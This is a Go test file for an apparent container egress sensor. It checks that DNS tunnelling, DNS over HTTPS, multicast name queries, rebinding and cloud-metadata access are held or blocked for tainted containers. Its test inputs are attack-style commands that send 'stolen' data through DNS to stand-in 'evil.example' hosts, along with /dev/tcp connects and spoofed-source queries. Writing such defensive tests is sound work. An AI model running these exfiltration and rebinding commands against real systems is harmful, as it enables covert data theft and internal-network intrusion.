//go:build vmguest

package names

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net/netip"
	"strings"
	"syscall"
	"testing"

	"github.com/cilium/ebpf"

	"weir/internal/event"
	"weir/internal/gate"
	"weir/test/vm/guest/rig"
)

func TestNames(t *testing.T) {
	f := start(t)
	t.Run("B24_without_the_sensor", f.bare)
	rig.Must(t, "mkdir -p /sys/fs/cgroup"+parent)
	t.Cleanup(func() { rig.RemoveCgroup(t, "/sys/fs/cgroup"+parent) })
	rig.Must(t, "echo key > "+secretFile)
	f.sensor = rig.StartSensor(t, policyText)
	f.session = f.sensor.Guard(t, "names", "--taint", "secret")
	for _, test := range []struct {
		name string
		run  func(*fixture, *testing.T)
	}{
		{"B24_tunnels", (*fixture).tunnels},
		{"B24_other_ways_to_ask", (*fixture).otherWays},
		{"held_by_name", (*fixture).held},
		{"G16_clients", (*fixture).clients},
		{"G16_claimed", (*fixture).claimed},
		{"allowed", (*fixture).allowed},
		{"B25_private", (*fixture).private},
		{"B25_rebinding", (*fixture).rebinding},
		{"B26_another_containers_resolver", (*fixture).anothers},
		{"B56_answered_elsewhere", (*fixture).answered},
		{"another_network_namespace", (*fixture).elsewhere},
		{"B24_B25_forged_in_its_own_network", (*fixture).forged},
		{"B24_B26_played_on_loopback", (*fixture).played},
		{"clean_again", (*fixture).clean},
		{"B24_datagrams", (*fixture).datagrams},
		{"B24_secret_read_while_clean", (*fixture).secret},
		{"B21_packets_of_a_removed_container", (*fixture).removed},
		{"leak", (*fixture).leak},
		{"runs_out", (*fixture).runOut},
		{"sensor_killed", (*fixture).killed},
		{"B24_resolv_conf_changed", (*fixture).changed},
	} {
		t.Run(test.name, func(t *testing.T) { test.run(f, t) })
	}
}

// overTCP asks a name server for a name by TCP, and prints how many bytes come back.
const overTCP = `
import socket, struct, sys
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0)
for label in sys.argv[2].split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
s = socket.create_connection((sys.argv[1], 53))
s.sendall(struct.pack(">H", len(q)) + q)
a = s.recv(4096)
print("answer", len(a), "from", s.getpeername()[0], ".".join(str(b) for b in a[-4:]))
`

// bare: a question carries what it says to whoever serves its domain (B24).
func (f *fixture) bare(t *testing.T) {
	s := rig.Bare(t, "names")
	s.Run(t, "getent", "ahosts", "udp.bare.example")
	s.Run(t, "python3", "-c", overTCP, server, "tcp.bare.example")
	s.Run(t, "gonet", "resolve", "go.bare.example")
	s.Run(t, "busybox", "nslookup", "busybox.bare.example")
	for _, name := range []string{"udp", "tcp", "go", "busybox"} {
		if f.zone.times(name+".bare.example") == 0 {
			t.Errorf("%s: the attack does not work without the sensor", name)
		}
	}
}

// tunnels: while a container is tainted, no packet leaves for a name that nobody judged (B24).
func (f *fixture) tunnels(t *testing.T) {
	mark := f.world.Mark(t)
	want(t, f.session.Run(t, "getent", "ahosts", "glibc.evil.example"), 0, "198.18.")
	want(t, f.session.Run(t, "gonet", "resolve", "go.evil.example"), 0, "198.18.")
	want(t, f.session.Run(t, "busybox", "nslookup", "busybox.evil.example"), 0, "198.18.")
	want(t, f.session.Run(t, "python3", "-c", "import socket; print(socket.gethostbyname('python.evil.example'))"), 0, "198.18.")
	r := f.session.Run(t, "python3", "-c", overTCP, server, "tcp.evil.example")
	want(t, r, 0, "from "+server+" 198.18.")
	r = f.session.Run(t, "getent", "ahosts", "suffix.evil.example.corp.test")
	want(t, r, 2, "")
	f.silent(t, mark, "evil.example")
	if n := len(f.sensor.Pending(t)); n != 0 {
		t.Errorf("%d questions for names alone", n)
	}
}

// multicast asks a name of everybody on the link.
const multicast = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"stolen.by.multicast", (sys.argv[1], int(sys.argv[2])))
print("sent")
`

// otherWays: DNS over HTTPS and over TLS are connects to an address like any other, mDNS and LLMNR packets like any other (B24).
func (f *fixture) otherWays(t *testing.T) {
	rig.Must(t, "ip route replace 224.0.0.0/24 dev "+rig.Dev)
	mark := f.world.Mark(t)
	for _, c := range []struct {
		argv []string
		to   string
		port uint16
	}{
		{[]string{"curl", "-sS", "-m", "60", "-k", "https://" + host + "/dns-query?dns=stolen"}, host, 443},
		{[]string{"curl", "-sS", "-m", "60", "telnet://" + server + ":853"}, server, 853},
		{[]string{"python3", "-c", multicast, "224.0.0.251", "5353"}, "224.0.0.251", 5353},
		{[]string{"python3", "-c", multicast, "224.0.0.252", "5355"}, "224.0.0.252", 5355},
	} {
		p := f.session.Start(t, c.argv...)
		p.Close(t)
		q := f.sensor.Asked(t, func(q gate.Question) bool { return q.Destination.Address == c.to && q.Destination.Port == c.port })
		f.sensor.Deny(t, q.ID)
		if r := p.Wait(t); r.Exit == 0 {
			t.Errorf("%v: %s", c.argv, r)
		}
		if n := f.world.Packets(t, mark, int(c.port), int(c.port)+1); n != 0 {
			t.Errorf("%v: %d packets have left", c.argv, n)
		}
	}
}

// held: the connect to an address that stands for a name is held with that name, and goes where the name leads.
func (f *fixture) held(t *testing.T) {
	f.zone.set("held.example", host)
	mark := f.world.Mark(t)
	p := f.session.Start(t, "curl", "-sS", "-m", "60", "http://held.example/")
	q := f.asked(t, "held.example")
	if !q.Held || !strings.HasPrefix(q.Destination.Address, "198.18.") || q.Destination.Port != 80 {
		t.Errorf("the question does not tell what is asked: %+v", q)
	}
	if shown := f.sensor.Must(t, "pending"); !strings.Contains(shown, "held.example:80/tcp") {
		t.Errorf("weir pending does not show the name:\n%s", shown)
	}
	f.silent(t, mark, "held.example")
	if n := f.world.Packets(t, mark, 80, 81); n != 0 {
		t.Errorf("%d packets for port 80 have left before the verdict", n)
	}
	f.sensor.Approve(t, q.ID)
	want(t, p.Wait(t), 0, "reached "+host+" as held.example")
	if f.world.Packets(t, mark, 80, 81) == 0 {
		t.Error("the approved connect did not arrive")
	}

	mark = f.world.Mark(t)
	p = f.session.Start(t, "python3", "-c", "import socket; socket.create_connection(('held.example', 80))")
	f.sensor.Deny(t, f.asked(t, "held.example").ID)
	want(t, p.Wait(t), 1, "PermissionError")
	if n := f.world.Packets(t, mark, 80, 81); n != 0 {
		t.Errorf("%d packets for port 80 have left after a denial", n)
	}
}

// clients: programs see nothing of it.
func (f *fixture) clients(t *testing.T) {
	for i, c := range []struct {
		argv []string
		exit int
		out  string
	}{
		{[]string{"gonet", "get", "http://NAME/"}, 0, "reached " + host + " as NAME"},
		{[]string{"busybox", "wget", "-q", "-O", "-", "http://NAME/"}, 0, "reached " + host + " as NAME"},
		{[]string{"wget", "-q", "-O", "-", "http://NAME/"}, 0, "reached " + host + " as NAME"},
		{[]string{"python3", "-c", "import urllib.request as u; print(u.urlopen('http://NAME/').read())"}, 0, "reached " + host + " as NAME"},
		{[]string{"bash", "-c", "exec 3<>/dev/tcp/NAME/80 && printf 'GET / HTTP/1.0\r\nHost: NAME\r\n\r\n' >&3 && cat <&3"}, 0, "reached " + host + " as NAME"},
		// who looks at the peer sees what was asked for
		{[]string{"python3", "-c", "import socket; print(socket.create_connection(('NAME', 80)).getpeername())"}, 0, "('198.18."},
		// and by IPv6 sockets
		{[]string{"python3", "-c", `
import socket
a = socket.gethostbyname("NAME")
s = socket.socket(socket.AF_INET6)
s.connect(("::ffff:" + a, 80))
s.sendall(b"GET / HTTP/1.0\r\nHost: NAME\r\n\r\n")
print(s.getpeername()[0] == "::ffff:" + a, s.recv(4096))`}, 0, "True"},
		// UDP, connected and not
		{[]string{"python3", "-c", `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("NAME", 7777))
s.send(b"echo")
print(s.recv(10), s.getpeername())`}, 0, "b'echo' ('198.18."},
		{[]string{"python3", "-c", `
import socket
a = socket.gethostbyname("NAME")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"echo", (a, 7777))
b, who = s.recvfrom(10)
print(b, who == (a, 7777))`}, 0, "b'echo' True"},
	} {
		name := fmt.Sprintf("c%d.client.example", i)
		f.zone.set(name, host)
		var argv []string
		for _, a := range c.argv {
			argv = append(argv, strings.ReplaceAll(a, "NAME", name))
		}
		r := f.approved(t, name, argv...)
		if out := strings.ReplaceAll(c.out, "NAME", name); r.Exit != c.exit || !strings.Contains(r.Stdout, out) {
			t.Errorf("%q: want %q, got %s", argv[:1], out, r)
		}
	}
}

// claimed: who is refused at once gets there by an approval that comes later.
func (f *fixture) claimed(t *testing.T) {
	f.zone.set("claimed.example", host)
	f.sensor.Policy(t, "hold: false\n"+policyText)
	argv := []string{"curl", "-sS", "-m", "60", "http://claimed.example/"}
	want(t, f.session.Run(t, argv...), 7, "")
	q := f.asked(t, "claimed.example")
	if q.Held {
		t.Errorf("held: %+v", q)
	}
	f.sensor.Approve(t, q.ID)
	want(t, f.session.Run(t, argv...), 0, "reached "+host)
	f.sensor.Policy(t, policyText)
}

// allowed: what the policy names is looked up, and open on its ports for as long as the answer lives.
func (f *fixture) allowed(t *testing.T) {
	f.zone.set("allowed.example", host)
	f.zone.set("a.allowed.example", "alias.elsewhere.example")
	f.zone.set("alias.elsewhere.example", other)
	want(t, f.session.Run(t, "curl", "-sS", "-m", "60", "http://allowed.example/"), 0, "reached "+host)
	want(t, f.session.Run(t, "gonet", "get", "http://a.allowed.example/"), 0, "reached "+other)
	if n := len(f.sensor.Pending(t)); n != 0 {
		t.Errorf("%d questions for allowed names", n)
	}
	p := f.session.Start(t, "curl", "-sS", "-m", "60", "http://allowed.example:81/")
	q := f.sensor.Asked(t, func(q gate.Question) bool { return q.Destination.Port == 81 })
	f.sensor.Deny(t, q.ID)
	want(t, p.Wait(t), 7, "")

	// a connection that is there stays when the policy is loaded again, a new one is asked about once the name is out of it
	f.sensor.Policy(t, "")
	p = f.session.Start(t, "curl", "-sS", "-m", "60", "http://"+host+"/")
	q = f.sensor.Asked(t, func(q gate.Question) bool { return q.Destination.Address == host && q.Destination.Port == 80 })
	f.sensor.Deny(t, q.ID)
	want(t, p.Wait(t), 7, "")
	f.sensor.Policy(t, policyText)
}

// private: neither an approved nor an allowed name leads into one's own network, unless that is listed (B25).
func (f *fixture) private(t *testing.T) {
	f.zone.set("inside.example", private)
	f.zone.set("metadata.example", "169.254.169.254")
	f.zone.set("inside.allowed.example", private)
	f.zone.set("listed.example", private)
	mark := f.world.Mark(t)
	for _, name := range []string{"inside.example", "metadata.example"} {
		p := f.session.Start(t, "curl", "-sS", "-m", "60", "http://"+name+"/")
		f.sensor.Approve(t, f.asked(t, name).ID)
		want(t, p.Wait(t), 7, "")
		f.sensor.Event(t, func(e event.Event) bool {
			return e.Kind == event.Error && strings.Contains(e.Message, name) && strings.Contains(e.Message, "not public")
		})
	}
	want(t, f.session.Run(t, "curl", "-sS", "-m", "60", "http://inside.allowed.example/"), 6, "")
	if n := f.world.Packets(t, mark, 80, 81); n != 0 {
		t.Errorf("%d packets have left", n)
	}
	want(t, f.session.Run(t, "curl", "-sS", "-m", "60", "http://listed.example/"), 0, "reached "+private)
}

// rebinding: what counts is where the name leads when it is let out, and that stays (B25).
func (f *fixture) rebinding(t *testing.T) {
	f.zone.set("rebind.example", host)
	mark := f.world.Mark(t)
	p := f.session.Start(t, "curl", "-sS", "-m", "60", "http://rebind.example/")
	q := f.asked(t, "rebind.example")
	f.zone.set("rebind.example", "127.0.0.1")
	f.sensor.Approve(t, q.ID)
	want(t, p.Wait(t), 7, "")
	if n := f.world.Packets(t, mark, 80, 81); n != 0 {
		t.Errorf("%d packets have left", n)
	}

	f.zone.set("pinned.example", host)
	p = f.session.Start(t, "python3", "-c", `
import sys, urllib.request
def get():
    return urllib.request.urlopen("http://pinned.example/", timeout=60).read().decode()
print("first", get(), flush=True)
sys.stdin.readline()
print(get())`)
	f.sensor.Approve(t, f.asked(t, "pinned.example").ID)
	if p.WaitLine("first reached "+host, rig.Late) == "" {
		t.Fatal("the approved connect did not arrive")
	}
	f.zone.set("pinned.example", private)
	p.Input(t, "\n")
	r := p.Wait(t)
	if strings.Count(r.Stdout, "reached "+host) != 2 {
		t.Errorf("the address did not stay: %s", r)
	}
}

// anothers: the resolver of one container is out of another's reach (B26).
func (f *fixture) anothers(t *testing.T) {
	s := f.guard(t, "--taint", "secret")
	want(t, s.Run(t, "getent", "ahosts", "own.example"), 0, "198.18.")
	port := strings.TrimSpace(rig.Must(t, "ss -Hlun src 127.0.0.1 | sed 's/.*127.0.0.1:\\([0-9]*\\).*/\\1/' | sort -n | head -1"))
	probe := "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(10)\n" +
		"s.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1', ('127.0.0.1', " + port + "))\nprint('answer', len(s.recv(512)))"
	heard := 0
	for _, one := range []*rig.Session{s, f.session} {
		if r := one.Run(t, "python3", "-c", probe); r.Exit == 0 && strings.Contains(r.Stdout, "answer") {
			heard++
		}
	}
	if heard != 1 {
		t.Errorf("the resolver on port %s answers %d of two containers", port, heard)
	}
}

// answered: the sensor's resolver answers nobody elsewhere, whose address a question names as its source (B56).
func (f *fixture) answered(t *testing.T) {
	for _, to := range []string{"::1", "::", server6} {
		for _, by := range []string{"bind", "pktinfo"} {
			mark := f.world.Mark(t)
			text := fmt.Sprintf("b56-%d-end", f.world.Port())
			r := f.session.Run(t, "egress", "dns-source", "-from", host6, "-by", by, "-to", "["+to+"]:53", "-say", text)
			if r.Exit == 0 {
				t.Errorf("to %s by %s: %s", to, by, r)
			}
			f.world.Nothing(t, mark, text, 0)
		}
	}
}

// elsewhere: a program in a network namespace of its own has a resolver there, from its first question on.
func (f *fixture) elsewhere(t *testing.T) {
	f.zone.set("elsewhere.example", host)
	want(t, f.approved(t, "elsewhere.example", "ip", "netns", "exec", "box", "curl", "-sS", "-m", "60", "http://elsewhere.example/"), 0, "reached "+host)

	f.zone.set("six.example", host6)
	p := f.session.Start(t, "ip", "netns", "exec", "box6", "curl", "-sS", "-m", "60", "http://six.example/")
	q := f.asked(t, "six.example")
	if !strings.HasPrefix(q.Destination.Address, "fd77:6569:7200:") {
		t.Errorf("no IPv6 address where there is no IPv4: %+v", q.Destination)
	}
	f.sensor.Approve(t, q.ID)
	want(t, p.Wait(t), 0, "reached "+host6)
}

// remembers looks a name up, and connects to the address when it is told to.
const remembers = `
import socket, sys
a = socket.gethostbyname(sys.argv[1])
print(a, flush=True)
for line in sys.stdin:
    s = socket.socket()
    try:
        s.connect((a, 80))
        s.sendall(b"GET / HTTP/1.0\r\nHost: h\r\n\r\n")
        print(s.makefile().read().replace("\n", " "), flush=True)
    except OSError as e:
        print("failed", e, flush=True)
`

// clean: who remembers an address goes on reaching what it stands for when the taint is lifted; other questions go where they went.
func (f *fixture) clean(t *testing.T) {
	f.zone.set("remembered.example", host)
	f.zone.set("asked.example", other)
	s := f.guard(t, "--taint", "corruption")
	p := s.Start(t, "python3", "-c", remembers, "remembered.example")
	line := p.WaitLine("198.18.", rig.Late)
	if line == "" {
		t.Fatal("no address that stands for the name")
	}
	f.sensor.Untaint(t, s.Name, "corruption")
	rig.Eventually(t, "the address leads to where the name does", func() bool { return leads(t, line) })
	p.Input(t, "\n")
	p.Close(t)
	want(t, p.Wait(t), 0, "reached "+host)
	want(t, s.Run(t, "getent", "ahosts", "asked.example"), 0, other)
	if f.zone.times("asked.example") == 0 {
		t.Error("a clean container does not ask its own name server")
	}
}

// leads says whether the kernel was told where an address that stands for a name leads a clean container, which is the only one.
func leads(t *testing.T, address string) (found bool) {
	t.Helper()
	at := netip.MustParseAddr(address).As16()
	each(t, "fake_targets", func(_ *ebpf.Map, key, _ []byte) { // by grant, which is 0, container and address
		found = found || binary.NativeEndian.Uint64(key) == 0 && bytes.Equal(key[16:], at[:])
	})
	return found
}

// killed: what an address stands for outlives the sensor.
func (f *fixture) killed(t *testing.T) {
	f.zone.set("outlives.example", host)
	p := f.session.Start(t, "python3", "-c", remembers, "outlives.example")
	if line := p.WaitLine("198.18.", rig.Late); line == "" {
		t.Fatal("no address that stands for the name")
	}
	f.sensor.Signal(t, syscall.SIGKILL)
	if err := f.sensor.Died(t); err == nil {
		t.Log("weir run ended without an error")
	}
	mark := f.world.Mark(t)
	r := f.session.Run(t, "getent", "ahosts", "nobody.evil.example")
	if r.Exit == 0 {
		t.Errorf("without a sensor, a name is answered: %s", r)
	}
	f.silent(t, mark, "nobody.evil.example")
	f.sensor.Restart(t)
	want(t, f.session.Run(t, "getent", "ahosts", "again.evil.example"), 0, "198.18.")
	p.Input(t, "\n")
	p.Close(t)
	q := f.asked(t, "outlives.example")
	f.sensor.Approve(t, q.ID)
	want(t, p.Wait(t), 0, "reached "+host)
}

// changed: a resolv.conf that was changed between the first taint and the last is not believed, also by the next sensor (B24).
func (f *fixture) changed(t *testing.T) {
	f.zone.set("later.allowed.example", host)
	f.zone.set("late.allowed.example", host)
	want(t, f.session.Run(t, "curl", "-sS", "-m", "60", "http://later.allowed.example/"), 0, "reached "+host)
	mark := f.world.Mark(t)
	rig.Must(t, "touch /etc/resolv.conf")
	f.sensor.Taint(t, "names", "corruption")
	f.sensor.Kill(t)
	f.sensor.Restart(t)
	want(t, f.session.Run(t, "curl", "-sS", "-m", "60", "http://late.allowed.example/"), 6, "")
	f.silent(t, mark, "late.allowed.example")
}
